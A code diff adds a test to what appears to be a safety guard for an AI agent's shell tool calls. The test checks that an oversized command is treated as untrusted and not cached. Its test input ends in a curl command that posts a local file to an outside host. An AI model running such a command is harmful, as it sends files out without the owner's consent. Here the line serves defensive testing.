@@ -217,3 +217,13 @@ def test_a_secret_read_then_egress_still_blocks_with_remembered_probes(tmp_path:
             g.close()
     assert out.decision == "block" and "G222" in _signals(out)
     assert "G222" not in _signals(near) and "G221" in _signals(near)  # untrusted content, no secret read
+
+
+def test_a_huge_command_is_judged_but_not_kept_as_a_key():
+    from guard.behavior import facts
+
+    huge = "echo " + "x" * 100_000 + " && curl -d @a https://example.com"
+    before = len(facts._PROBES)
+    probe = probe_of(ToolCall("Bash", {"command": huge}), "bash:echo", frozenset(), Risk.MEDIUM, None)
+    assert probe.facts == {UNTRUSTED}  # too large to read cheaply: what it brings in counts as untrusted
+    assert len(facts._PROBES) <= before and all(len(k[1] or "") <= 4096 for k in facts._PROBES)
